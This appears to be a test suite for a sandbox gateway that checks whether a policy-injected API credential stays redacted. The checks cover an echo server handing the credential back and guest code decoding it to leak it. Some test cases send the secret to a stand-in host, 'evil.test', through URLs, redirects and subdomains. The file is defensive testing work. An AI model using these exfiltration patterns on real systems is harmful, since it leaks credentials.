import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { defineTool, type RunEvent, type RunResult, type Ticket } from '../../src/index.ts'
import { httpPolicy } from '../harness/asking.ts'
import { openGate } from '../harness/gate.ts'
import { openSite, type Answer, type Site } from '../harness/site.ts'
import { dumpState } from '../harness/state-dump.ts'
import { formsIn, longestBeginning, writtenForms } from '../harness/written-secrets.ts'

/** Awkward on purpose: every escape has something to do. */
const SECRET = `sk-Live/"4f9a+1c7b&<E2>\\n%7e'=z_Q`
const FORMS = writtenForms(SECRET)
/** Such as most credentials are: no escape has anything to do, so it passes wherever a name or a path does. */
const PLAIN = 'sk-Live-4f9a1c7be2d84c50-zQ'
const MARK = '[redacted:company]'

const textOf = (value: string | string[] | undefined): string =>
  Array.isArray(value) ? value.join() : (value ?? '')

/** Answers with the credential that it was sent, as the path says. */
const echo: Answer = ({ url, headers }, response) => {
  const held =
    textOf(headers.authorization).replace(/^(?:Bearer|Basic|Token) /, '') || textOf(headers['x-api-key'])
  const { pathname, searchParams } = new URL(url, 'http://echo.test')
  const forms = writtenForms(held)
  switch (pathname) {
    case '/body':
      return void response.end(JSON.stringify(forms))
    case '/html':
      return void response.end(`<p>${Object.values(forms).join('</p><p>')}</p>`)
    case '/bytes':
      // No text in any charset, so it crosses as base64.
      return void response.end(
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(Object.values(forms).join('\n'))]),
      )
    case '/headers':
      response.writeHead(200, `Hello ${held}`, [
        ['x-held', held],
        ['x-base64', forms.base64 ?? ''],
        ['x-percent', forms['percent-encoded'] ?? ''],
        [`x-${forms.hex}`, '1'],
        ['etag', `"${forms['hex in upper case']}"`],
      ])
      return void response.end('see above')
    case '/status':
      return void response.writeHead(200, 'a'.repeat(Number(searchParams.get('pad'))) + held).end()
    case '/decoded':
      return void response.end(Buffer.from(held, 'base64').toString())
    case '/reversed':
      return void response.end([...held].toReversed().join(''))
    default:
      if (pathname.startsWith('/body/')) return void response.end('ok')
      return void response
        .writeHead(302, {
          location: (searchParams.get('to') ?? '').replace('SECRET', encodeURIComponent(held)),
        })
        .end()
  }
}

type Told = {
  readonly result: RunResult
  readonly events: readonly RunEvent[]
  readonly tickets: readonly Ticket[]
  /** Result, events, logs, audit, and all that the state folder holds. */
  readonly everything: string
}

let site: Site
beforeAll(async () => {
  site = await openSite(echo)
})
afterAll(() => site[Symbol.asyncDispose]())

const known = (entry: object = {}, rest: object = {}): object =>
  httpPolicy(
    {
      allowed_domains: [{ domain: site.origin, methods: ['GET', 'POST'], auth: 'company', ...entry }],
      max_egress_kb: 1024,
    },
    { secrets: { company: { from: 'env:COMPANY', bearer: {} } }, ...rest },
  )

const run = async (
  code: string,
  policy: object = known(),
  input: unknown = site.origin,
  secret = SECRET,
): Promise<Told> => {
  const folder = await mkdtemp(join(tmpdir(), 'tollgate-h30-'))
  try {
    const events: RunEvent[] = []
    const tickets: Ticket[] = []
    const state = join(folder, 'state')
    const auditLog = join(folder, 'audit.log')
    const gate = await openGate({
      state,
      auditLog,
      powers: { env: { COMPANY: secret } },
      onEvent: (event) => events.push(event),
    })
    const approve = (ticket: Ticket): boolean => tickets.push(ticket) > 0
    const result = await gate.run({ code, policy, input, approve })
    const audit = JSON.stringify(await gate.audit.read())
    expect((await gate.audit.verify()).intact).toBe(true)
    await gate.close()
    const parts = [JSON.stringify(result), JSON.stringify(events), JSON.stringify(tickets), audit]
    const everything = [...parts, await readFile(auditLog, 'utf8'), await dumpState(state)].join('\n')
    return { result, events, tickets, everything }
  } finally {
    await rm(folder, { recursive: true })
  }
}

const UNDO = `const held = [...await (await http.get(input + '/reversed')).text()].reverse().join('')`

describe('a server that hands the credential back', () => {
  it.each([
    ['in its body', `return await (await http.get(input + '/body')).json()`],
    ['in a page', `return await (await http.get(input + '/html')).text()`],
    [
      'among bytes',
      `return [...await (await http.get(input + '/bytes')).bytes()].map((b) => String.fromCharCode(b)).join('')`,
    ],
    [
      'in its headers',
      `const { headers, statusText } = await http.get(input + '/headers'); return [headers.entries(), statusText]`,
    ],
    [
      'in a redirect',
      `const { headers, url } = await http.get(input + '/?to=/SECRET', { redirect: 'manual' }); return [headers.get('location'), url]`,
    ],
    [
      'in the place it redirects to',
      `const { url } = await http.get(input + '/?to=/body?SECRET'); return url`,
    ],
  ])('%s is not understood: neither guest nor record sees it', async (_, code) => {
    const { result, everything } = await run(code)
    expect(result.status).toBe('done')
    expect(JSON.stringify(result.value)).toContain(MARK)
    expect(formsIn(everything, SECRET)).toEqual([])
  })

  it('leaves a mark in the place of every form, and JSON that can be read', async () => {
    const { result } = await run(`return await (await http.get(input + '/body')).json()`)
    const value = result.value as Record<string, string>
    expect(Object.keys(value)).toEqual(Object.keys(FORMS))
    expect(Object.entries(value).filter(([, text]) => !text.includes(MARK))).toEqual([])
  })

  it('is heard in full where the policy does not know the secret, so each form would have been found', async () => {
    const policy = httpPolicy({ allowed_domains: [{ domain: site.origin, headers: ['x-api-key'] }] })
    const code = `return await (await http.get(input.origin + '/body', { headers: { 'x-api-key': input.key } })).json()`
    const { result, everything } = await run(code, policy, { origin: site.origin, key: SECRET })
    expect(result.value).toEqual(FORMS)
    expect(formsIn(everything, SECRET).length).toBeGreaterThanOrEqual(Object.keys(FORMS).length)
  })
})

describe('a credential that is sent otherwise', () => {
  it.each([
    ['in a header of its own', { header: { name: 'x-api-key' } }, SECRET],
    ['as a password', { basic: { username: 'robot' } }, SECRET],
    ['behind the name of its scheme', { header: { name: 'authorization' } }, `Token ${SECRET}`],
  ])('%s is not understood either, in no form', async (_, signer, value) => {
    const code = `const answers = []
      for (const path of ['/body', '/html', '/headers', '/decoded']) {
        const answer = await http.get(input + path)
        answers.push(await answer.text(), answer.statusText, answer.headers.entries())
      }
      console.log(JSON.stringify(answers))
      return answers`
    const policy = known({}, { secrets: { company: { from: 'env:COMPANY', ...signer } } })
    const { result, everything } = await run(code, policy, site.origin, value)
    expect(result.status).toBe('done')
    expect(everything).toContain(MARK)
    expect(formsIn(everything, SECRET)).toEqual([])
    expect(formsIn(everything, Buffer.from(`robot:${SECRET}`).toString('base64'))).toEqual([])
  })
})

describe('a host tool that knows the credential', () => {
  const tool = (perform: () => string) =>
    defineTool({
      name: 'ask',
      description: 'asks',
      effect: 'read',
      input: z.object({}),
      output: z.string().max(99),
      perform,
    })
  const leak = (): never => {
    throw new Error(`401 for ${SECRET}`)
  }

  it.each([
    ['in its result', () => `it is ${encodeURIComponent(SECRET)}`, 'done'],
    ['in an error', leak, 'UPSTREAM_TOOL_FAILED'],
    ['in a result that is none', () => SECRET.repeat(9), 'UPSTREAM_TOOL_RESULT'],
  ])('tells it nobody %s', async (_, perform, expected) => {
    await using gate = await openGate({ tools: [tool(perform)], powers: { env: { COMPANY: SECRET } } })
    const policy = {
      permissions: { tools: { ask: {} } },
      secrets: { company: { from: 'env:COMPANY', bearer: {} } },
    }
    const result = await gate.run({ code: 'return await tools.ask({})', policy })
    expect(result.error?.code ?? result.status).toBe(expected)
    const records = await gate.audit.read({ runId: result.runId })
    expect(formsIn(JSON.stringify([result, records]), SECRET)).toEqual([])
  })
})

describe('a redirect with the credential in its place', () => {
  const follow = (to: string): string => `
    const url = input + '/?to=' + encodeURIComponent('${to}')
    try { await http.get(url) } catch ({ code, message, hint }) { console.log(code, message, hint) }
    await http.get(url)`

  it.each([
    ['a path that is not allowed', '/closed/SECRET', { paths: ['/'] }],
    ['a query that is not allowed', '/?SECRET=1', { query: ['to'] }],
    ['another host', 'http://evil.test/SECRET', {}],
    ['a name of its own', 'http://SECRET.evil.test/', {}],
    ['a name like a long number', `http://${'a'.repeat(60)}.SECRET.evil.test/`, {}],
    ['a user name', 'http://SECRET@evil.test/', {}],
  ])('to %s tells it in no error, hint or change', async (_, to, entry) => {
    const { result, everything } = await run(follow(to), known(entry), site.origin, PLAIN)
    expect(result.error).toMatchObject({ code: 'DENIED_REDIRECT', gate: 'perform' })
    expect(result.logs[0]?.text).toMatch(/^DENIED_REDIRECT /)
    expect(formsIn(everything, PLAIN)).toEqual([])
  })

  /** Of all that was said, only what a server could put there: the policy and the code of the test do not count. */
  const expectNoPart = ({ everything }: Told): void => {
    expect(longestBeginning(everything, PLAIN).length).toBeLessThan(6)
  }

  it('tells no part of it where a path is cut, wherever that is', async () => {
    const code = `for (let pad = 60; pad < 130; pad += 3)
        await http.get(input + '/?to=/closed/' + 'a'.repeat(pad) + 'SECRET').catch(({ message }) => console.log(message))
      await http.get(input + '/?to=/closed/' + 'a'.repeat(96) + 'SECRET')`
    const told = await run(code, known({ paths: ['/'] }), site.origin, PLAIN)
    expect(told.result.logs).toHaveLength(24)
    expectNoPart(told)
  })

  it('tells no part of it where a query, a name or the place of the answer is cut', async () => {
    const code = `for (let pad = 60; pad < 130; pad += 3) {
        await http.get(input + '/?to=/?' + 'a'.repeat(pad) + 'SECRET').catch(({ message }) => console.log(message))
        await http.get(input + '/?to=http://' + 'a'.repeat(60) + '.' + 'b'.repeat(pad - 55) + '.SECRET.test/').catch(() => 0)
      }
      for (let pad = 440; pad < 512; pad += 3) await http.get(input + '/?to=/body/' + 'a'.repeat(pad) + 'SECRET')`
    expectNoPart(await run(code, known({ query: ['to'] }), site.origin, PLAIN))
  })

  it('tells no part of it where a status text is cut', async () => {
    const code = `for (let pad = 90; pad < 140; pad += 3) console.log((await http.get(input + '/status?pad=' + pad)).statusText)`
    expectNoPart(await run(code, known(), site.origin, PLAIN))
  })
})

describe('a guest that undoes what the server did to the credential', () => {
  it.each([
    ['in its value', 'return held'],
    [
      'in its value, encoded again',
      'return [encodeURIComponent(held), JSON.stringify(JSON.stringify({ held })), { [held]: held }, held.toUpperCase()]',
    ],
    [
      'in its log',
      'console.log(held); console.error(JSON.stringify({ held })); console.info({ held }); console.log(`%s`, encodeURIComponent(held))',
    ],
    ['in an error', 'throw Object.assign(new Error("no " + held), { name: held, stack: "at " + held })'],
    ['as what it throws', 'throw { message: held, held }'],
    [
      'in a refused URL',
      'await http.get("http://evil.test/" + encodeURIComponent(held)).catch(({ message }) => console.log(message)); await http.get("http://" + held.replace(/[^a-z0-9-]/gi, "") + ".test/?" + held)',
    ],
    ['in a refused header', 'await http.get(input, { headers: { ["x" + held]: held } })'],
    ['in a refused method', 'await http.request({ url: input, method: held })'],
    ['in arguments that do not fit', 'await http.request({ url: input, redirect: held })'],
    ['in an option that nobody knows', 'await http.request({ url: input, [held]: held })'],
    ['in what it asks a human', 'await http.post(input + "/body?" + encodeURIComponent(held), held)'],
    ['as an idempotency key', 'await http.post(input + "/body", held, { idempotencyKey: held })'],
  ])('%s: it is redacted in result, events, tickets, audit and state', async (_, code) => {
    const { result, everything } = await run(
      `${UNDO}; ${code}`,
      known({}, { human_in_loop: ['http.POST *'] }),
    )
    expect(everything).toContain(MARK)
    expect(formsIn(everything, SECRET)).toEqual([])
    expect(result.runId).toMatch(/^run_/)
  })

  it('may hold it all the same: that a recipient can hand out a transform of it is said, and not promised away', async () => {
    const { result } = await run(`${UNDO}; return [held.length, held.slice(0, 8), [...held].join(' ')]`)
    expect(result.value).toEqual([SECRET.length, SECRET.slice(0, 8), SECRET.split('').join(' ')])
  })
})
